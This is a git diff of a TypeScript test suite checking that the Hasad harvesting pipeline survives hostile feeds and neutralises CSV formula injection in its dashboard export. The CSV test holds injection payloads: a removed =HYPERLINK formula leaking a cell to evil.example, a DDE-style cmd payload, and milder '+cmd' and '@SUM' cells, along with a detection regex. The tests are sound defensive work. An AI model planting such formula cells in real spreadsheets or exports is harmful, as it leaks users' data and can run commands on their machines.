@@ -1,12 +1,14 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { neutraliseCsvCell } from '@hasad/core';
-import type { Run } from '@hasad/db';
+import { createApiToken, type Run } from '@hasad/db';
 import { startTestPipeline, type TestPipeline } from '../helpers/pipeline.ts';
 import {
   catalogue,
   COMMENT_FILLER,
   gzipBomb,
+  parseCsv,
   printTable,
+  probeHealth,
+  signInDashboard,
   startCanary,
   startHostileServer,
   stream,
@@ -18,15 +20,16 @@ import {
 
 /**
  * The hostile-input suite (issue 4): an institution's feed turns hostile. The whole pipeline
- * (fetcher and loader workers, real Redis, real PostgreSQL) harvests from a loopback server with
+ * (the API, fetcher and loader in one process, real Redis, real PostgreSQL) harvests from a loopback server with
  * the address rules ON (HASAD_ALLOW_PRIVATE_HOSTS=0) and only the feed server's own address and
  * port allow-listed (HASAD_ALLOW_HOSTS=127.0.0.1:PORT): every other loopback, private or
  * link-local target is refused by the rules, before any connection. Canary servers listen where
  * the redirects point and must never see a request.
  *
  * For every case: the run fails with a clear error (or, for CSV formulas, the record is kept as
- * published and neutralised on export), the worker stays up (a healthy source harvests fine right
- * after), memory stays bounded, and no existing dataset changes.
+ * published and neutralised in the dashboard's CSV export), the API keeps serving (/healthz, and
+ * the public catalogue answers what it answered before), the worker stays up (a healthy source
+ * harvests fine right after), memory stays bounded, and no existing dataset changes.
  */
 
 const MiB = 1024 * 1024;
@@ -60,6 +63,43 @@ async function snapshot(p: TestPipeline) {
   return res.rows;
 }
 
+/** The API role's settings: listening on a port of the OS's choosing, in the test's process. */
+const API_ENV = { PORT: '0', HOST: '127.0.0.1' };
+
+/** GET `path` from the running API: status and parsed body. */
+async function apiGet(p: TestPipeline, path: string): Promise<{ status: number; body: any }> {
+  const res = await fetch(`${p.rt.apiUrl}${path}`);
+  const text = await res.text();
+  let body: unknown = text;
+  try {
+    body = JSON.parse(text);
+  } catch {
+    // not JSON
+  }
+  return { status: res.status, body };
+}
+
+/** What the public catalogue API answers for the datasets of each source, by source id. */
+async function catalogueRead(p: TestPipeline, sourceIds: string[]): Promise<Record<string, unknown>> {
+  const out: Record<string, unknown> = {};
+  for (const id of sourceIds) {
+    const res = await apiGet(p, `/api/v1/datasets?source=${id}&limit=200&sort=id`);
+    expect(res.status, `GET /api/v1/datasets?source=${id}: ${JSON.stringify(res.body)}`).toBe(200);
+    out[id] = res.body.items;
+  }
+  return out;
+}
+
+/**
+ * The API keeps serving in the same process as the workers that met the hostile feed: alive,
+ * and the public catalogue answers exactly what it answered before.
+ */
+async function expectApiServes(p: TestPipeline, before: Record<string, unknown>): Promise<void> {
+  const health = await apiGet(p, '/healthz');
+  expect(health.status, 'GET /healthz').toBe(200);
+  expect(await catalogueRead(p, Object.keys(before))).toEqual(before);
+}
+
 interface HostileCase {
   name: string;
   /** Path on the feed server; the route answers a healthy catalogue first, then `hostile`. */
@@ -80,7 +120,8 @@ function suite(title: string, env: Record<string, string>, cases: () => HostileC
     let healthyId: string;
 
     beforeAll(async () => {
-      p = await startTestPipeline(['fetcher', 'loader'], {
+      p = await startTestPipeline(['api', 'fetcher', 'loader'], {
+        ...API_ENV,
         HASAD_ALLOW_PRIVATE_HOSTS: '0',
         HASAD_ALLOW_HOSTS: `127.0.0.1:${server.port}`,
         // Transient failures (timeouts) fail the run at once instead of being retried.
@@ -101,28 +142,40 @@ function suite(title: string, env: Record<string, string>, cases: () => HostileC
         const first = await p.harvest(sourceId);
         expect(first.status, first.error ?? '').toBe('succeeded');
         const before = await snapshot(p);
+        const served = await catalogueRead(p, [healthyId, sourceId]);
+        expect((served[sourceId] as unknown[]).length).toBeGreaterThan(0);
         route.flip();
 
         const started = Date.now();
         const memory = watchMemory();
+        const probe = probeHealth(`${p.rt.apiUrl}/healthz`);
         let run: Run;
+        let health: Awaited<ReturnType<typeof probe.stop>>;
         try {
           run = await p.harvest(sourceId);
         } finally {
+          health = await probe.stop();
           const growth = memory.stop();
           outcomes.push({ case: c.name, outcome: '(pending)', error: '', rssGrowthMb: growth, seconds: (Date.now() - started) / 1000 });
         }
         const row = outcomes[outcomes.length - 1] as CaseOutcome;
         row.outcome = `run ${run.status} (${run.errorCode ?? '-'})`;
         row.error = run.error ?? '';
+        // The API answered all along, while its process's workers met the hostile feed.
+        expect(health.failures, 'GET /healthz during the hostile harvest').toEqual([]);
+        expect(health.answered).toBeGreaterThan(0);
 
         expect(run.status, run.error ?? '').toBe('failed');
         expect(run.error).toMatch(c.error);
         expect(row.rssGrowthMb, 'resident memory growth, MB').toBeLessThan(c.maxRssGrowthMb ?? 200);
         // No dataset changed: not this source's (nothing withdrawn after a failed run), nor any other.
         expect(await snapshot(p)).toEqual(before);
+        // The API (same process) still answers, and the catalogue it serves did not change.
+        await expectApiServes(p, served);
         // The worker is still up and harvesting.
         expect(await p.harvest(healthyId)).toMatchObject({ status: 'unchanged', seen: 10 });
+        expect((await apiGet(p, '/healthz')).status).toBe(200);
+        row.outcome += `; API serving (healthz ≤ ${health.maxMs} ms)`;
         for (const canary of canaries) expect(canary.requests, `${canary.url} was contacted`).toEqual([]);
       });
     }
@@ -333,36 +386,109 @@ suite(
   ],
 );
 
+/** True when a spreadsheet would read `cell` as a formula (what neutraliseCsvCell guards against). */
+const FORMULA_CELL = /^[=+\-@\t\r]/;
+
 describe('CSV with formula injection', () => {
   let p: TestPipeline;
+  let healthyId: string;
+  let operatorToken: string;
+
   beforeAll(async () => {
-    p = await startTestPipeline(['fetcher', 'loader'], { HASAD_ALLOW_PRIVATE_HOSTS: '0', HASAD_ALLOW_HOSTS: `127.0.0.1:${server.port}` });
+    p = await startTestPipeline(['api', 'fetcher', 'loader'], { ...API_ENV, HASAD_ALLOW_PRIVATE_HOSTS: '0', HASAD_ALLOW_HOSTS: `127.0.0.1:${server.port}` });
+    healthyId = await p.addSource(server.route('/healthy-csv-suite', catalogue(`${server.url}/healthy-csv-suite`, 10)));
+    expect(await p.harvest(healthyId)).toMatchObject({ status: 'succeeded', created: 10 });
+    operatorToken = (await createApiToken(p.rt.db.db, { role: 'operator', operatorName: 'Hostile suite' })).token;
   });
   afterAll(async () => {
     await p?.close();
   });
 
-  it('keeps the cells as published and neutralises them for CSV export', async () => {
-    const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")';
-    const csv = `identifier,title,description\r\nf-1,"${formula.replaceAll('"', '""')}",@SUM(1+1)*cmd|' /C calc'!A0\r\nf-2,+212 5 22 00 00 00,-2+3\r\n`;
+  it('keeps the cells as published in the catalogue and neutralises them in every CSV export', async () => {
+    const hyperlink = '=HYPERLINK("http://evil","x")';
+    const cells = { hyperlink, plus: '+cmd', at: '@SUM(1)' };
+    const q = (v: string) => `"${v.replaceAll('"', '""')}"`;
+    // f-3's identifier is itself a formula, and its date is unreadable: the run reports a problem
+    // for that row, so the dashboard's problems.csv carries the formula-like identifier.
+    const csv = [
+      'identifier,title,description,modified',
+      `f-1,${q(cells.hyperlink)},${q(cells.plus)},2024-03-01`,
+      `f-2,${q(cells.plus)},${q(cells.at)},2024-03-01`,
+      `${q(cells.at)},${q(cells.at)},${q(cells.hyperlink)},${q('=1+1')}`,
+      '',
+    ].join('\r\n');
     const url = server.route('/formulas.csv', (_req, res) => void res.writeHead(200, { 'content-type': 'text/csv; charset=utf-8' }).end(csv));
+    const others = await snapshot(p);
+    const servedBefore = await catalogueRead(p, [healthyId]);
+
     const started = Date.now();
     const memory = watchMemory();
+    const probe = probeHealth(`${p.rt.apiUrl}/healthz`);
     const sourceId = await p.addSource(url, { kind: 'csv' });
     const run = await p.harvest(sourceId);
+    const health = await probe.stop();
     const growth = memory.stop();
+    expect(health.failures, 'GET /healthz during the harvest').toEqual([]);
     expect(run.status, run.error ?? '').toBe('succeeded');
-    const rows = await p.datasets(sourceId);
-    const title = rows.get('f-1')?.title[''] ?? '';
-    // Stored as published: the catalogue (JSON API) shows data, it does not evaluate it.
-    expect(title).toBe(formula);
-    // Any CSV Hasad exports goes through neutraliseCsvCell (the export itself is issue 6).
-    expect(neutraliseCsvCell(title)).toBe(`'${formula}`);
-    expect(neutraliseCsvCell(rows.get('f-2')?.title[''] ?? '')).toBe("'+212 5 22 00 00 00");
+    expect(run).toMatchObject({ created: 3 });
+
+    // Stored as data: the catalogue (public JSON API) answers the cells exactly as published.
+    const served = await apiGet(p, `/api/v1/datasets?source=${sourceId}&limit=200&sort=id`);
+    expect(served.status).toBe(200);
+    const byId = new Map<string, any>((served.body.items as any[]).map((d) => [d.sourceIdentifier, d]));
+    expect([...byId.keys()].sort()).toEqual(['@SUM(1)', 'f-1', 'f-2']);
+    const text = (m: Record<string, string> | undefined) => Object.values(m ?? {})[0];
+    expect([text(byId.get('f-1').title), text(byId.get('f-1').description)]).toEqual([cells.hyperlink, cells.plus]);
+    expect([text(byId.get('f-2').title), text(byId.get('f-2').description)]).toEqual([cells.plus, cells.at]);
+    expect([text(byId.get('@SUM(1)').title), text(byId.get('@SUM(1)').description)]).toEqual([cells.at, cells.hyperlink]);
+    const detail = await apiGet(p, `/api/v1/datasets/${byId.get('f-1').id}`);
+    expect(detail.status).toBe(200);
+    expect(text(detail.body.title)).toBe(cells.hyperlink);
+
+    // The run flags every cell a spreadsheet would run (a warning naming the row and the field),
+    // and reports the unreadable date of the row whose identifier is a formula.
+    const problems = await p.problems(run.id);
+    expect(problems).toContainEqual(expect.objectContaining({ code: 'invalid_date', identifier: cells.at }));
+    const { rows: flagged } = await p.rt.db.pool.query<{ identifier: string; field: string; severity: string }>(
+      `SELECT identifier, field, severity FROM run_problems WHERE run_id = $1 AND code = 'csv_formula_cell' ORDER BY identifier, field`,
+      [run.id],
+    );
+    for (const [identifier, field] of [
+      ['f-1', 'title'],
+      ['f-2', 'description'],
+      [cells.at, 'identifier'],
+      [cells.at, 'title'],
+      [cells.at, 'description'],
+      [cells.at, 'modified'],
+    ]) {
+      expect(flagged, `csv_formula_cell for ${identifier} ${field}`).toContainEqual({ identifier, field, severity: 'warning' });
+    }
+
+    // The only CSV Hasad exports, the dashboard's problems.csv of a run, comes out neutralised:
+    // no cell a spreadsheet would read as a formula, the identifier shown with a leading quote.
+    const cookie = await signInDashboard(p.rt.apiUrl!, operatorToken);
+    const res = await fetch(`${p.rt.apiUrl}/dashboard/runs/${run.id}/problems.csv`, { headers: { cookie }, redirect: 'manual' });
+    expect(res.status).toBe(200);
+    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
+    const exported = parseCsv(await res.text());
+    expect(exported[0]).toEqual(['page', 'batch', 'severity', 'code', 'field', 'identifier', 'message']);
+    expect(exported.length - 1).toBe(problems.length);
+    for (const row of exported) for (const cell of row) expect(cell, `exported cell ${JSON.stringify(cell)}`).not.toMatch(FORMULA_CELL);
+    const dateRow = exported.find((r) => r[3] === 'invalid_date');
+    expect(dateRow?.[5]).toBe(`'${cells.at}`);
+    expect(dateRow?.[6]).toContain('"=1+1"');
+    const formulaRows = exported.filter((r) => r[3] === 'csv_formula_cell');
+    expect(formulaRows).toHaveLength(flagged.length);
+    expect(formulaRows.filter((r) => r[5] === `'${cells.at}`)).toHaveLength(4);
+
+    // Nothing else changed; the API keeps serving; the worker still harvests.
+    expect((await snapshot(p)).filter((r) => r.source_id !== sourceId)).toEqual(others);
+    await expectApiServes(p, servedBefore);
+    expect(await p.harvest(healthyId)).toMatchObject({ status: 'unchanged', seen: 10 });
     outcomes.push({
-      case: 'CSV with formula injection (=HYPERLINK(...))',
-      outcome: `run ${run.status}; cells kept as published`,
-      error: `exported as ${neutraliseCsvCell(title)} (neutraliseCsvCell; CSV export is issue 6)`,
+      case: 'CSV with formula injection (=HYPERLINK(...), +cmd, @SUM(1))',
+      outcome: `run ${run.status}, ${flagged.length} csv_formula_cell warnings; cells kept as published; API serving (healthz ≤ ${health.maxMs} ms)`,
+      error: `problems.csv exports the identifier as ${dateRow?.[5]} (every formula-like cell quoted)`,
       rssGrowthMb: growth,
       seconds: (Date.now() - started) / 1000,
     });
